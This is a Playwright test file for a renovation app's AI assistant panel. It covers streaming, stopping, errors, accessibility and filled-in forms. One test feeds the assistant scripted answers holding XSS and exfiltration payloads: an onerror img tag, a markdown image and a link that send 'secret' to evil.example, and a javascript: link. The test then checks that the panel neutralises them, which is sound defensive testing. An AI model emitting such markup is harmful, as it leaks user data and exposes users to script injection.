import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import type { Page } from '@playwright/test';
import { type ModelServer, startModelServer } from '../src/server/testing/model-servers.ts';
import { freePort, startProduct } from './product.ts';
import {
  createExpense,
  createProject,
  expect,
  expectAccessible,
  expectContrast,
  expectNoSidewaysScroll,
  phoneAndDesk,
  pressEscapeIn,
  signedInTest,
  test,
} from './test.ts';

// In one worker, so that the product with the model is started once.
test.describe.configure({ mode: 'default' });

/** The product with a scripted language model on loopback. */
const modelTest = signedInTest.extend<object, { model: ModelServer & { productUrl: string } }>({
  model: [
    // biome-ignore lint/correctness/noEmptyPattern: Playwright reads the fixtures a function needs from this pattern
    async ({}, use) => {
      const dataDir = await mkdtemp(path.join(tmpdir(), 'plumbline-chat-'));
      const model = await startModelServer('openai');
      const product = await startProduct({
        dataDir,
        port: await freePort(),
        env: { AI_PROVIDER: 'openai', AI_MODEL: 'loopback', AI_BASE_URL: model.baseUrl },
      });
      // This worker runs nothing else.
      process.env['PRODUCT_URL'] = product.url;
      await use(Object.assign(model, { productUrl: product.url }));
      await product.stop();
      await model.close();
      await rm(dataDir, { recursive: true });
    },
    { scope: 'worker' },
  ],
  baseURL: async ({ model }, use) => {
    await use(model.productUrl);
  },
});

const opener = (page: Page) => page.getByRole('button', { name: 'Open AI Assistant' });
const panel = (page: Page) => page.getByRole('dialog', { name: 'AI Assistant' });
const input = (page: Page) => panel(page).getByRole('textbox', { name: 'Your message' });

async function ask(page: Page, question: string) {
  // While an answer comes, the button stops it, and Enter sends nothing.
  await expect(panel(page).getByRole('button', { name: 'Send' })).toBeVisible();
  await input(page).fill(question);
  await input(page).press('Enter');
}

async function openPanel(page: Page) {
  await opener(page).click();
  await expect(panel(page)).toBeVisible();
}

modelTest(
  'an answer streams in word by word and can be stopped',
  { tag: '@slow' },
  async ({ page, model }) => {
    const chatCalls: string[] = [];
    page.on('request', (request) => {
      if (request.url().includes('/api/ai-chat')) chatCalls.push(request.method());
    });
    await createProject(page);
    await page.goto('/');
    await expect(page.getByRole('link', { name: 'Dashboard' }).first()).toBeVisible();
    await expect(opener(page)).toBeHidden();
    await page.goto('/dashboard');
    await expect(opener(page)).toBeVisible();
    expect(chatCalls).toEqual([]);

    await opener(page).focus();
    await page.keyboard.press('Enter');
    await expect(input(page)).toBeFocused();
    await expect(
      panel(page).getByText('Ask me anything about your renovation project!'),
    ).toBeVisible();
    await expect(input(page)).toHaveAttribute(
      'placeholder',
      'Ask about budgets, timelines, materials...',
    );

    // Shift+Enter is a new line; Enter sends.
    await page.keyboard.type('What is');
    await page.keyboard.press('Shift+Enter');
    await page.keyboard.type('left?');
    await expect(input(page)).toHaveValue('What is\nleft?');
    const more = Promise.withResolvers<void>();
    model.script = () => ({ pieces: [], until: more.promise });
    await page.keyboard.press('Enter');
    await expect(panel(page).getByText('What is left?')).toBeVisible();
    await expect(panel(page).getByText('Thinking...', { exact: true })).toBeVisible();
    await expect(panel(page).getByText('AI is thinking...')).toBeVisible();
    await expect(input(page)).toHaveValue('');
    // Before the model has the question there is no answer to stop, and the question comes back.
    await expect.poll(() => model.calls.length).toBe(1);
    // The next question can be typed meanwhile; stopping does not send it.
    await input(page).fill('Later');
    await panel(page).getByRole('button', { name: 'Stop' }).click();
    await expect(input(page)).toHaveValue('Later');
    await model.calls.at(-1)?.hungUp;
    more.resolve();
    await expect(panel(page).getByText('Stopped. The answer was not saved.')).toBeVisible();
    await expect(panel(page).getByText('Thinking...', { exact: true })).toBeHidden();

    const rest = Promise.withResolvers<void>();
    const lines = Array.from({ length: 60 }, (_, index) => `- Line ${index}\n`);
    model.script = () => ({ pieces: ['**So far**\n', ...lines], until: rest.promise });
    await ask(page, 'List them');
    const list = panel(page).getByRole('region', { name: 'Messages' });
    // A long answer is read from its beginning, below the question.
    await expect(list.getByText('Line 59')).toBeAttached();
    await expect(list.getByText('List them')).toBeInViewport();
    await expect(list.getByText('Line 5', { exact: true })).toBeInViewport();
    await expect(list.getByText('Line 59')).not.toBeInViewport();
    await panel(page).getByRole('button', { name: 'To the latest' }).click();
    await expect(list.getByText('Line 59')).toBeInViewport();
    // The list does not jump when the user scrolls up to read.
    await list.evaluate((element) => {
      element.scrollTop = 0;
    });
    await expect(panel(page).getByRole('button', { name: 'To the latest' })).toBeVisible();
    // Announced when it is complete, not word by word.
    const answer = list.getByRole('listitem').filter({ hasText: 'So far' }).last();
    await expect(list.locator('ol[aria-live=polite]')).toBeVisible();
    await expect(answer).toHaveAttribute('aria-live', 'off');
    rest.resolve();
    await expect(panel(page).getByText('AI is thinking...')).toBeHidden();
    await expect(answer).not.toHaveAttribute('aria-live');
    await expect(list.getByText('Line 0', { exact: true })).toBeVisible();
    expect(await list.evaluate((element) => element.scrollTop)).toBeLessThan(100);
    await panel(page).getByRole('button', { name: 'To the latest' }).click();
    await expect(list.getByText('Line 59')).toBeInViewport();
    await expectAccessible(page);

    // Larger, smaller, closed: the conversation is still there.
    const width = async () => (await panel(page).boundingBox())?.width ?? 0;
    const small = await width();
    await panel(page).getByRole('button', { name: 'Expand' }).click();
    expect(await width()).toBeGreaterThan(small + 200);
    await panel(page).getByRole('button', { name: 'Collapse' }).click();
    expect(await width()).toBe(small);
    await page.keyboard.press('Escape');
    await expect(panel(page)).toBeHidden();
    await expect(opener(page)).toBeFocused();
    await page.getByRole('link', { name: 'Contractors' }).first().click();
    await openPanel(page);
    await expect(list.getByText('List them')).toBeInViewport();
    await page.reload();
    await openPanel(page);
    await expect(list.getByText('List them')).toBeVisible();
  },
);

modelTest.describe('when something goes wrong', () => {
  modelTest.use({ expectedConsole: [/status of 500|net::ERR_FAILED/] });

  modelTest(
    'the words return to the input, and a message says what happened',
    { tag: '@slow' },
    async ({ page, model }) => {
      await createProject(page);
      await page.goto('/projects');
      await openPanel(page);
      // Stopped before the server has the message.
      await page.route('**/api/ai-chat', (route) =>
        route.request().method() === 'POST' ? undefined : route.continue(),
      );
      await ask(page, 'Too slow');
      await panel(page).getByRole('button', { name: 'Stop' }).click();
      await expect(input(page)).toHaveValue('Too slow');
      await page.unroute('**/api/ai-chat');

      await page.route('**/api/ai-chat', (route) =>
        route.request().method() === 'POST' ? route.abort() : route.continue(),
      );
      await ask(page, 'Anybody there?');
      await expect(panel(page).getByRole('alert')).toContainText('Failed to send message.');
      await expect(input(page)).toHaveValue('Anybody there?');
      await expect(panel(page).getByText('Ask me anything')).toBeVisible();
      await page.unroute('**/api/ai-chat');

      model.script = () => ({ pieces: ['Half an ans'], ending: 'error' });
      await input(page).press('Enter');
      await expect(panel(page).getByRole('alert')).toContainText('Try again in a moment.');
      await expect(panel(page).getByText('Half an ans')).toBeHidden();
      await expect(input(page)).toHaveValue('Anybody there?');
      await expectAccessible(page);

      model.script = () => ({ pieces: ['Here ', 'I am.'] });
      await input(page).press('Enter');
      await expect(panel(page).getByText('Here I am.', { exact: true })).toBeVisible();
      await expect(panel(page).getByRole('alert')).toBeHidden();
      await expect(panel(page).getByRole('listitem')).toHaveText([
        /Anybody there\?/,
        /Here I am\./,
      ]);

      await input(page).fill('x'.repeat(4_001));
      await input(page).press('Enter');
      await expect(panel(page).getByRole('alert')).toHaveText(
        'A message can have at most 4,000 characters',
      );
      await expect(input(page)).toHaveValue('x'.repeat(4_001));

      await page.route('**/api/ai-chat', (route) => route.fulfill({ status: 500, body: '' }));
      await page.getByRole('button', { name: 'Close', exact: true }).click();
      await page.reload();
      await openPanel(page);
      await expect(panel(page).getByText('Failed to fetch messages')).toBeVisible();
      await page.unroute('**/api/ai-chat');
      await panel(page).getByRole('button', { name: 'Try again' }).click();
      await expect(panel(page).getByText('Here I am.', { exact: true })).toBeVisible();
    },
  );
});

modelTest(
  'an answer is Markdown and never HTML, an image or a hidden address',
  { tag: '@slow' },
  async ({ page, model, context }) => {
    await context.grantPermissions(['clipboard-read', 'clipboard-write']);
    const foreign: string[] = [];
    page.on('request', (request) => {
      if (request.url().includes('evil.example')) foreign.push(request.url());
    });
    const { id } = await createProject(page);
    await createExpense(page, id, { category: 'labor', description: 'Wiring' });
    const answer = [
      '## Where it went',
      '| Category | Spent |\n|---|---|\n| [Labor](/expenses?category=labor) | **$1,250.40** |',
      'Run `npm` <img src="https://evil.example/a.png" onerror="alert(1)">',
      '![chart](https://evil.example/b.png?d=secret)',
      '[Your bank](https://evil.example/login?d=secret) [script](javascript:alert(1))',
    ].join('\n\n');
    model.script = () => ({ pieces: [answer] });
    await page.goto('/dashboard');
    await openPanel(page);
    await ask(page, 'Where did it go?');
    const copy = panel(page).getByRole('button', { name: 'Copy' });
    await copy.click();
    await expect(panel(page).getByText('Copied')).toBeVisible();
    const copied = await page.evaluate(() => navigator.clipboard.readText());
    expect(copied).toContain('Category\tSpent\nLabor\t$1,250.40\n');
    expect(copied).not.toContain('/expenses?category=labor');
    await expect(panel(page).locator('img')).toHaveCount(0);
    await expect(panel(page).getByText('<img src="https://evil.example/a.png"')).toBeVisible();
    await expect(panel(page).getByRole('cell', { name: '$1,250.40' })).toBeVisible();
    const link = panel(page).getByRole('link', { name: 'https://evil.example/login?d=secret' });
    await expect(link).toHaveAttribute('rel', 'noopener noreferrer nofollow');
    await expect(link).toHaveAttribute('target', '_blank');
    await expect(panel(page).getByRole('link')).toHaveCount(2);
    await expectAccessible(page);
    await expectContrast(page);

    await panel(page).getByRole('link', { name: 'Labor' }).click();
    await expect(page).toHaveURL('/expenses?category=labor');
    await expect(panel(page)).toBeVisible();
    expect(foreign).toEqual([]);

    await panel(page).getByRole('button', { name: 'Clear history' }).click();
    const confirm = page.getByRole('alertdialog', { name: 'Clear history' });
    await pressEscapeIn(confirm);
    await expect(confirm).toBeHidden();
    await expect(panel(page)).toBeVisible();
    await panel(page).getByRole('button', { name: 'Clear history' }).click();
    await confirm.getByRole('button', { name: 'Clear history' }).click();
    await expect(panel(page).getByText('Ask me anything')).toBeVisible();
    await expect(panel(page)).toBeFocused();
  },
);

for (const { viewport } of phoneAndDesk) {
  const title = `an answer says how it came about, at ${viewport.width} px`;
  signedInTest(title, { tag: '@slow' }, async ({ page }) => {
    await page.setViewportSize(viewport);
    const { id } = await createProject(page, 'Kitchen', '5000');
    await createExpense(page, id, { date: '2026-03-05', category: 'labor', amount: '900' });
    await createExpense(page, id, { date: '2026-04-06', amount: '300' });
    await page.goto('/expenses');
    await openPanel(page);
    // The suggestions fit the page.
    await panel(page).getByRole('button', { name: 'What did we spend by month?' }).click();
    const chart = panel(page).getByRole('figure', { name: 'By month' });
    await expect(chart.getByRole('link', { name: '$900.00' })).toBeVisible();
    await panel(page).getByText('How I got this').click();
    await expect(panel(page).getByText('the spending split up')).toBeVisible();
    await expect(panel(page).getByText('Project: Kitchen, which is open')).toBeVisible();
    await expect(panel(page).getByText('2 records').first()).toBeVisible();
    await expectAccessible(page);
    await expectContrast(page);
    await expectNoSidewaysScroll(page);

    // An unclear question comes back as two buttons.
    await ask(page, 'Who had the average spending?');
    await expect(panel(page).getByText('I am not sure what you would like to know.')).toBeVisible();
    await panel(page).getByRole('button', { name: 'An average', exact: true }).click();
    await expect(
      panel(page).getByText('Who had the average spending, I mean an average'),
    ).toBeVisible();
    await expect(panel(page).getByText('Your average expense')).toBeVisible();

    await panel(page).getByRole('button', { name: 'Ask again' }).first().click();
    await expect(panel(page).getByText('What did we spend by month?')).toHaveCount(2);
    await expect(panel(page).getByRole('figure', { name: 'By month' })).toHaveCount(2);
    const download = page.waitForEvent('download');
    await panel(page).getByRole('button', { name: 'Download this talk' }).click();
    expect((await download).suggestedFilename()).toMatch(/^assistant-talk-[\d-]+\.md$/);
    await expectAccessible(page);
  });
}

test.describe('on a phone', () => {
  test.use({ viewport: { width: 360, height: 740 }, hasTouch: true });

  signedInTest('the built-in assistant answers from the user’s own figures', async ({ page }) => {
    const { id } = await createProject(page, 'Kitchen', '5000');
    await createExpense(page, id);
    await page.goto('/dashboard');
    await opener(page).tap();
    const box = await panel(page).boundingBox();
    expect(box?.width).toBeGreaterThan(330);
    expect(box?.height).toBeCloseTo(740 * 0.7);
    await expectAccessible(page);
    await expectNoSidewaysScroll(page);
    const suggestion = panel(page).getByRole('listitem').getByRole('button').first();
    const question = (await suggestion.textContent()) ?? '';
    expect(question).toMatch(/\?$/);
    await suggestion.dblclick();
    await expect(panel(page).getByRole('button', { name: 'Copy' })).toBeVisible();
    await expect(panel(page).getByText(question)).toBeVisible();
    await expect(panel(page).getByRole('listitem')).toHaveCount(2);
    await ask(page, 'How much have I spent?');
    await expect(
      panel(page).getByRole('listitem').filter({ hasText: '$1,250.40' }).last(),
    ).toBeVisible();
    await expectAccessible(page);
    await expectNoSidewaysScroll(page);
    await panel(page).getByRole('button', { name: 'Close' }).tap();
    await expect(opener(page)).toBeFocused();

    // What is told becomes a form that is filled in, and nothing is saved before a press.
    await opener(page).tap();
    await ask(page, 'remind me to order the doors by 2031-05-09');
    await panel(page).getByRole('link', { name: 'Open the filled-in form' }).tap();
    const form = page.getByRole('dialog', { name: 'Add Milestone' });
    await expect(form.getByLabel('Title')).toHaveValue('Order the doors');
    await expect(form.getByLabel('Target date')).toHaveValue('2031-05-09');
    await form.getByRole('button', { name: 'Cancel' }).tap();
    await expect(form).toBeHidden();
    await expect(page).toHaveURL(/\/timeline$/);
    await expect(page.getByText('No milestones yet')).toBeVisible();
    await page.goto('/contractors?add=new&name=Bill%20Turner&specialty=Roofer');
    const contractor = page.getByRole('dialog', { name: 'Add Contractor' });
    await expect(contractor.getByLabel('Name')).toHaveValue('Bill Turner');
    await expect(contractor.getByLabel('Specialty')).toHaveValue('Roofer');
    await expectAccessible(page);
    await contractor.getByRole('button', { name: 'Cancel' }).tap();
    await expect(page).toHaveURL(/\/contractors$/);
  });
});
